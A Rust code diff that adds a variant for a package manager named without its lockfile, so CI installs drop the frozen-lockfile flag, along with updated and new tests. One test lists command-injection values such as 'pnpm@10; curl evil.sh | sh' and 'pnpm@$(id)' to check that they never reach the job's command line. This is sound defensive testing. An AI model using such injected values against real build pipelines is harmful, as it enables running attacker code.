@@ -30,6 +30,11 @@ pub(crate) enum PackageManager {
     /// Bun (`oven-sh/setup-bun`, Bun docs, CI/CD): `bun install --frozen-lockfile`; the tests
     /// run as `bun run test`, the `test` script (`bun test` is Bun's own test runner).
     Bun,
+    /// pnpm, Yarn or Bun named by `packageManager` in a folder without its lockfile: installed
+    /// without freezing one that is not there (`pnpm install --frozen-lockfile` refuses to
+    /// run without `pnpm-lock.yaml`, Yarn 2+ refuses to create `yarn.lock` on CI unless
+    /// immutable installs are off: `YARN_ENABLE_IMMUTABLE_INSTALLS`, Yarn docs, yarnrc).
+    Unlocked(Box<PackageManager>),
 }
 
 /// pnpm's major version when nothing pins one.
@@ -49,7 +54,19 @@ impl PackageManager {
             Some(PackageManager::Npm) if !npm_lockfile => {
                 return PackageManager::NpmWithoutLockfile;
             }
-            Some(pm) => return pm,
+            Some(pm) => {
+                let locked = match pm {
+                    PackageManager::Pnpm(_) => has("pnpm-lock.yaml"),
+                    PackageManager::YarnClassic | PackageManager::YarnBerry => has("yarn.lock"),
+                    PackageManager::Bun => has("bun.lock") || has("bun.lockb"),
+                    _ => true,
+                };
+                return if locked {
+                    pm
+                } else {
+                    PackageManager::Unlocked(Box::new(pm))
+                };
+            }
             None => {}
         }
         if has("pnpm-lock.yaml") {
@@ -88,6 +105,20 @@ impl PackageManager {
                 "yarn install --immutable".to_owned(),
             ],
             PackageManager::Bun => vec!["bun install --frozen-lockfile".to_owned()],
+            PackageManager::Unlocked(pm) => pm
+                .install()
+                .into_iter()
+                .map(|c| match c.as_str() {
+                    "pnpm install --frozen-lockfile" | "yarn install --frozen-lockfile" => {
+                        c.replace(" --frozen-lockfile", "")
+                    }
+                    "yarn install --immutable" => {
+                        "YARN_ENABLE_IMMUTABLE_INSTALLS=false yarn install".to_owned()
+                    }
+                    "bun install --frozen-lockfile" => "bun install".to_owned(),
+                    _ => c,
+                })
+                .collect(),
         }
     }
 
@@ -99,6 +130,7 @@ impl PackageManager {
             PackageManager::Pnpm(_) => "pnpm test",
             PackageManager::YarnClassic | PackageManager::YarnBerry => "yarn test",
             PackageManager::Bun => "bun run test",
+            PackageManager::Unlocked(pm) => pm.test(),
         }
     }
 
@@ -112,13 +144,17 @@ impl PackageManager {
             PackageManager::Pnpm(_) => "pnpm add",
             PackageManager::YarnClassic | PackageManager::YarnBerry => "yarn add",
             PackageManager::Bun => "bun add",
+            PackageManager::Unlocked(pm) => pm.add(),
         }
     }
 
     /// Whether the job sets Bun up (`oven-sh/setup-bun@v2`).
     #[must_use]
     pub(crate) fn is_bun(&self) -> bool {
-        *self == PackageManager::Bun
+        match self {
+            PackageManager::Unlocked(pm) => pm.is_bun(),
+            pm => *pm == PackageManager::Bun,
+        }
     }
 }
 
@@ -279,25 +315,26 @@ mod tests {
         assert_eq!(
             of(&[
                 ("package.json", &pkg("pnpm@10.28.2+sha512.0a1b")),
-                ("package-lock.json", "{}")
+                ("package-lock.json", "{}"),
+                ("pnpm-lock.yaml", "")
             ]),
             PackageManager::Pnpm(Some("10.28.2".to_owned()))
         );
         assert_eq!(
-            of(&[("package.json", &pkg("yarn@4.5.0"))]),
+            of(&[("package.json", &pkg("yarn@4.5.0")), ("yarn.lock", "")]),
             PackageManager::YarnBerry
         );
         assert_eq!(
-            of(&[("package.json", &pkg("yarn@1.22.22"))]),
+            of(&[("package.json", &pkg("yarn@1.22.22")), ("yarn.lock", "")]),
             PackageManager::YarnClassic
         );
         assert_eq!(
-            of(&[("package.json", &pkg("bun@1.3.3"))]),
+            of(&[("package.json", &pkg("bun@1.3.3")), ("bun.lockb", "")]),
             PackageManager::Bun
         );
         // Not a version: nothing of it reaches the job's command line.
         for hostile in ["pnpm@10; curl evil.sh | sh", "pnpm@$(id)", "pnpm@"] {
-            let pm = of(&[("package.json", &pkg(hostile))]);
+            let pm = of(&[("package.json", &pkg(hostile)), ("pnpm-lock.yaml", "")]);
             assert_eq!(pm, PackageManager::Pnpm(None), "{hostile}");
             assert_eq!(pm.install()[0], "npm install --global pnpm@10");
         }
@@ -382,6 +419,38 @@ mod tests {
             assert_eq!(PackageManager::of(&dir), PackageManager::YarnClassic);
             std::fs::remove_dir_all(dir).unwrap();
         }
+    }
+
+    /// A manager named by the field in a folder without its lockfile installs without
+    /// freezing it (a frozen install fails there); its test command stays its own.
+    #[test]
+    fn a_named_manager_without_its_lockfile_installs_without_freezing_it() {
+        let pkg = |pm: &str| format!(r#"{{ "name": "app", "packageManager": "{pm}" }}"#);
+        let pnpm = of(&[("package.json", &pkg("pnpm@9.15.0"))]);
+        assert_eq!(
+            pnpm.install(),
+            ["npm install --global pnpm@9.15.0", "pnpm install"]
+        );
+        assert_eq!(pnpm.test(), "pnpm test");
+        assert_eq!(
+            of(&[("package.json", &pkg("yarn@4.5.3"))]).install(),
+            [
+                "corepack enable",
+                "YARN_ENABLE_IMMUTABLE_INSTALLS=false yarn install"
+            ]
+        );
+        assert_eq!(
+            of(&[("package.json", &pkg("yarn@1.22.22"))]).install(),
+            ["yarn install"]
+        );
+        let bun = of(&[("package.json", &pkg("bun@1.3.3"))]);
+        assert_eq!(bun.install(), ["bun install"]);
+        assert!(bun.is_bun() && bun.add() == "bun add");
+        // With the lockfile: frozen.
+        assert_eq!(
+            of(&[("package.json", &pkg("bun@1.3.3")), ("bun.lock", "{}")]).install(),
+            ["bun install --frozen-lockfile"]
+        );
     }
 
     #[test]
